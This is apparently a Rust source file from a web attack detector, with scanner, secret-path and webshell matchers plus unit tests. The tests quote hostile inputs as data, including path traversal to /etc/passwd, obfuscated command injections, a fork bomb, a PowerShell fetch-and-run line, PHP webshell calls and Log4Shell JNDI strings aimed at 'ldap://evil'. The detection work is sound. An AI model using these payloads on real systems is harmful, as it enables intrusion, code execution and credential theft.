static SCANNER_UA_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| ac(SCANNER_UA));
static SECRET_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| ac(SECRET_PATHS));
/// Probe paths matched anywhere (the others are suffixes).
static PROBE_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| {
        let v: Vec<&str> = PROBE_PATHS
            .iter()
            .copied()
            .filter(|p| !(p.starts_with('.') || *p == "~"))
            .collect();
        ac(&v)
    });

static WEBSHELL_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| {
        aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .build(WEBSHELLS)
            .ok()
    });

/// Whether a tool's user agent (any case).
pub fn scanner_ua(ua: &str) -> bool {
    SCANNER_UA_AC.as_ref().is_some_and(|a| a.is_match(ua))
}

/// Scanner signals of one request: a tool's user agent (any case) or a sensitive-path probe.
pub fn scanner(ua: Option<&str>, path_l: &str) -> Option<(f32, &'static str)> {
    if ua.is_some_and(scanner_ua) {
        return Some((0.9, "scanner user agent"));
    }
    // One request for a secret file is a probe; the other probe paths
    // (`/cgi-bin/`, `/shell…`, `.bak`) also name real pages, so alone they
    // stay under the flag threshold and count only in a burst of 404s.
    if SECRET_AC.as_ref().is_some_and(|a| a.is_match(path_l)) {
        return Some((0.6, "secret file probe"));
    }
    if probe_path(path_l) {
        return Some((0.4, "sensitive path probe"));
    }
    None
}

/// Files no visitor asks for: credentials, repositories, server configuration.
const SECRET_PATHS: &[&str] = &[
    "/.env",
    "/.git/",
    "/.svn/",
    "/.hg/",
    "/.aws/",
    "/.ssh/",
    "/.htpasswd",
    "/wp-config",
    "/vendor/phpunit",
    "/etc/passwd",
    "/.ds_store",
];

/// Whether a (lower-cased, decoded) path is a probe for something sensitive.
pub fn probe_path(path_l: &str) -> bool {
    PROBE_AC.as_ref().is_some_and(|a| a.is_match(path_l))
        || PROBE_PATHS
            .iter()
            .filter(|p| p.starts_with('.') || **p == "~")
            .any(|p| path_l.ends_with(p))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classes() {
        assert!(traversal("../../../etc/passwd").is_some());
        assert!(traversal("....//....//etc/passwd").is_some());
        assert!(traversal("/images/logo.png").is_none());
        assert!(rce("x;cat /etc/passwd").is_some());
        assert!(rce("1|c\\at${ifs}/etc/passwd").is_some());
        assert!(rce("a=1&id=2").is_none());
        assert!(rce("tom & jerry").is_none());
        assert!(SHELL_FUNC.is_some() && WIN_FOR.is_some() && WIN_IF.is_some());
        assert!(rce(":(){ :|:& };:").is_some());
        assert!(rce("for /f \"tokens=*\" %%a in ('dir') do echo %%a").is_some());
        assert!(rce("& if exist c:\\boot.ini type c:\\boot.ini").is_some());
        assert!(rce("time sh -c whoami").is_some());
        assert!(rce("x;c$!at /et$!c/pas$!swd").is_some());
        assert!(rce("uname$u -a;").is_some());
        assert!(rce("cd /;cd etc;column passwd").is_some());
        assert!(rce("see you at the party; more news later").is_none());
        assert!(rce("for the people in (the) world do good").is_none());
        assert!(rce("if you like it, buy it").is_none());
        assert!(php("<?php system($_get['c']); ?>").is_some());
        assert!(php("phpinfo()").is_some());
        assert!(php("i like php (a lot)").is_none());
        assert!(PHP_VAR_CALL.is_some() && PHP_DYN_CALL.is_some() && PHP_VARVAR.is_some());
        assert!(php("$a(1)").is_some());
        assert!(php("@$__['o'](4)").is_some());
        assert!(php("(\"sys\".\"tem\")('uname');").is_some());
        assert!(php("${'ff'}").is_some());
        assert!(php("costs $5 (about)").is_none());
        assert!(php("$(document).ready(").is_none());
        assert!(traversal("cat /root/.ssh/id_rsa").is_some());
        assert!(java("x", "${jndi:ldap://evil/a}").is_some());
        assert!(java("x", "${${lower:j}${::-n}di:ldap://evil/a}").is_some());
        assert!(java("x", "${${env:foo:-j}ndi:ldap://x}").is_some());
        assert!(java("x", "hello world").is_none());
        assert!(webshell("/uploads/c99.php", &[]).is_some());
        assert!(webshell("/x.php", &[("cmd".into(), "cat /etc/passwd".into())]).is_some());
        assert!(scanner(Some("sqlmap/1.7"), "/").is_some());
        assert!(scanner(None, "/.git/config").is_some());
        assert!(scanner(Some("mozilla/5.0"), "/index.html").is_none());
    }

    #[test]
    fn globs_braces_and_powershell() {
        assert!(glob_match(b"/usr/[a-z]in/bash", b"/usr/bin/bash"));
        assert!(glob_match(b"/etc/[!q]asswd", b"/etc/passwd"));
        assert!(!glob_match(b"/etc/[!p]asswd", b"/etc/passwd"));
        assert!(glob_match(b"/???/c?t", b"/bin/cat"));
        assert!(glob_match(b"/e*/pa*", b"/etc/passwd"));
        assert!(!glob_match(b"/e*/x*", b"/etc/passwd"));
        assert!(rce("/usr/[a-z]in/bash").is_some());
        assert!(rce("see /docs/[a-z]/index").is_none());
        assert!(rce("{cat,/etc/passwd}").is_some());
        assert!(rce("c{a,oun}t /etc/hosts").is_some());
        assert!(rce("{\"a\":1,\"b\":2}").is_none());
        assert!(rce("colors {red,green}").is_none());
        assert!(rce("$shell -c \"echo hi\"").is_some());
        assert!(rce(";iex (iwr http://10.0.0.1/x.ps1)").is_some());
        assert!(rce("invoke-expression -command file.ps1").is_some());
        assert!(rce("sip (a drink) slowly").is_none());
    }

    #[test]
    fn restricted_files_and_php_tags() {
        assert!(traversal(".ssh/id_rsa").is_some());
        assert!(traversal("/sys/class").is_some());
        assert!(traversal("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd").is_some());
        assert!(restricted("/wp-content/debug.log").is_some());
        assert!(restricted("/.claude/settings.json").is_some());
        assert!(restricted("/index.php").is_none());
        assert!(restricted("/environment/overview").is_none());
        assert!(php("<? php echo \"test\"").is_some());
        assert!(php("<?xml version=\"1.0\"?><a/>").is_none());
        assert!(php("[php]echo 'test';[/php]").is_some());
        assert!(php("gzuncompress/*x*/($a)").is_some());
        assert!(php("base64_decode(").is_some());
        assert!(php("please decode(").is_none());
        assert!(php("auto_prepend_file=php://input").is_some());
        assert!(php("memory_limit = 512m").is_some());
        assert!(php("file extension = pdf").is_none());
    }
}

#[cfg(test)]
mod b64_tests {
    use super::*;

    #[test]
    fn base64_alignments_match_real_encodings() {
        // "rO0ABQ" is how every base64 Java serialised stream starts.
        let a = base64_alignments(&[0xac, 0xed, 0x00, 0x05]);
        assert!("rO0ABXNy".starts_with(&a[0]), "{a:?}");
        assert!(a.iter().all(|p| !p.is_empty()));
        // Each alignment is found in the encoding of the word behind 0, 1, 2 bytes.
        assert_eq!(base64_alignments(b"runtime")[0], "cnVudGltZ");
        assert!(java("x", "x").is_none());
        assert!(java("Y2xvbmV0cmFuc2Zvcm1lcg", "y2xvbmv0cmfuc2zvcm1lcg").is_some());
    }
}
